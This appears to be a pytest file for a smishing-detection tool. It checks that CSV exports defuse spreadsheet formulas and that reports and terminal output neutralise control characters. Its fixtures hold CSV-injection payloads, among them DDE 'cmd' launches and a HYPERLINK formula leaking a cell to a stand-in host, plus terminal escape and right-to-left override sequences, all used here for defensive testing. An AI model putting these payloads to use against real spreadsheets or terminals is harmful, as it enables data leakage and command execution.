"""Exports are inert: a CSV cell never starts a spreadsheet formula (OWASP's CSV-injection guidance: a
leading single quote), and what the exporter wrote imports back to the same texts; no raw control
character reaches a Markdown, HTML or JUnit report or the terminal (smishctl.util.inert)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from factories import record_run
from rich.table import Table

from smishctl.cli.common import InertConsole
from smishctl.data.golden import load_golden
from smishctl.ops.evaluate import EvalConfig
from smishctl.ops.review import ReviewSession
from smishctl.util.inert import csv_cell, csv_value, inert_text

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Claim your prize")', "+cmd|' /C calc'!A0 parcel held",
            "-2+3+cmd|' /C calc'!A0 pay now", "@SUM(1+1)*cmd|' /C calc'!A0 your bank", "\tTAB=1+1 verify account",
            "\r=1+1 carriage return, then a formula"]
CONTROLS = ["\x1b]0;pwned\x07Your parcel is held: pay 1.99 GBP at royal-mail.example", "\x1b[2J\x1b[HWin a prize",
            "Refund \u202eexe.tnemyap\u202c due", "Bell \x07\x07 your account is locked, call \x9b now"]


def _file_run(settings, tmp_path, texts: list[str], *, wrong=(), run_id: str | None = None):
    """A run of an evaluation-only file holding `texts`, all labelled smishing, answered by the factory."""
    path = tmp_path / "hostile.csv"
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["text", "label"])
    w.writerows([[t, "smishing"] for t in texts] + [[f"Lunch at {h} pm? See you", "ham"] for h in range(1, 5)])
    path.write_text(buf.getvalue(), encoding="utf-8")
    cfg = EvalConfig(model="classic/tfidf-svm", dataset=str(path), split="test", evaluation_only=True)
    return record_run(settings, cfg, run_id=run_id,
                      answer=lambda k, ex: "ham" if k in wrong else ex.label)


def test_review_export_guards_formulas_and_import_round_trips(settings, tmp_path):
    run = _file_run(settings, tmp_path, FORMULAS)
    session = ReviewSession(settings, run.id)
    sheet = tmp_path / "review.csv"
    session.export_csv(sheet)
    rows = list(csv.reader(sheet.open(encoding="utf-8", newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    header, body = rows[0], rows[1:]
    col = {name: header.index(name) for name in ("item_id", "text", "decision")}
    texts = {it.item_id: it.text for it in session.items}
    hostile = {i for i, t in texts.items() if t.startswith(("=", "+", "-", "@"))}
    assert len(hostile) >= 5  # the loader strips a leading tab or CR; the others stay formulas
    for row in body:
        text = texts[row[col["item_id"]]]
        assert row[col["text"]] == ("'" + text if row[col["item_id"]] in hostile else text)

    # the user decides in the spreadsheet; the import finds every item by the exported cells
    for row in body:
        if row[col["item_id"]] in hostile:
            row[col["decision"]] = "must-pass"
            row[header.index("note")] = csv_cell("=seen in the wild")  # as a spreadsheet keeps a quoted cell
    with open(sheet, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([header, *body])
    result = session.import_csv(sheet)
    assert result["applied"] == len(hostile) and result["must-pass"] == len(hostile)

    # the must-pass set written by the review is guarded too, and reads back to the run's texts
    golden = settings.datasets_dir / "golden" / "reviewed.csv"
    written = [c for row in csv.reader(golden.open(encoding="utf-8", newline="")) for c in row]
    assert not [c for c in written if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    pinned = load_golden(settings, "reviewed").items
    assert sorted(it["text"] for it in pinned) == sorted(" ".join(texts[i].split()) for i in hostile)
    assert {it["note"] for it in pinned} == {"=seen in the wild"}


def test_csv_guard_round_trips_every_text():
    for text in [*FORMULAS, "'=already quoted", "'plain quote", "", "plain", "-", "=", "'"]:
        assert csv_value(csv_cell(text)) == text
        assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_reports_and_the_terminal_carry_no_control_characters(settings, tmp_path, cli):
    a = _file_run(settings, tmp_path, CONTROLS, run_id="run-a")
    (tmp_path / "hostile.csv").unlink()
    b = _file_run(settings, tmp_path, CONTROLS, wrong={0, 1, 2, 3}, run_id="run-b")
    md, html, junit = tmp_path / "r.md", tmp_path / "r.html", tmp_path / "r.xml"
    pins = tmp_path / "pins.csv"  # a must-pass set: its messages are JUnit test cases
    with open(pins, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([["text", "label", "note"],
                                                       *[[t, "smishing", "\x1b[1mnote"] for t in CONTROLS]])
    r = cli("compare", a.id, b.id, "--diff", "--markdown", str(md), "--html", str(html), "--junit", str(junit),
            "--must-pass", str(pins))
    assert r.returncode in (0, 1), r.stderr
    for out in (md.read_text(encoding="utf-8"), html.read_text(encoding="utf-8"), junit.read_text(encoding="utf-8"),
                r.stdout, r.stderr):
        assert not [c for c in out if c in "\x1b\x07\x9b\u202e\u202c"], out
    report = md.read_text(encoding="utf-8")
    assert "pwned␇Your parcel is held" in report and "␛" in report  # shown, not acted on
    import xml.etree.ElementTree as ET

    cases = ET.fromstring(junit.read_text(encoding="utf-8").split("\n", 1)[1]).iter("testcase")  # well-formed
    assert any("Your parcel is held" in c.get("name") for c in cases)
    assert "Your parcel is held" in r.stdout


def test_the_terminal_console_shows_control_characters_without_acting_on_them():
    buf = io.StringIO()
    console = InertConsole(file=buf, force_terminal=True, width=100, highlight=False)
    table = Table("message")
    table.add_row(CONTROLS[0])
    console.print(table)
    console.print(f"[red]error:[/red] {CONTROLS[1]}")
    text = buf.getvalue()
    assert "\x1b[31merror:" in text  # rich's own styling still works
    assert "\x1b]0;" not in text and "\x07" not in text and "\x1b[2J" not in text
    assert "␛]0;pwned" in text and "␛[2J␛[HWin a prize" in text  # (rich itself drops BEL)


@pytest.mark.parametrize("text,shown", [("a\x1bb", "a␛b"), ("a\x07b", "a␇b"), ("a\x9bb", "a\ufffdb"),
                                        ("a\u202eb", "a\ufffdb"), ("a\x7fb", "a\u2421b"), ("tab\tand\nnewline", None),
                                        ("é ü 日本 😀", None)])
def test_inert_text(text, shown):
    assert inert_text(text) == (shown if shown is not None else text)
    assert json.loads(json.dumps(inert_text(text))) == inert_text(text)
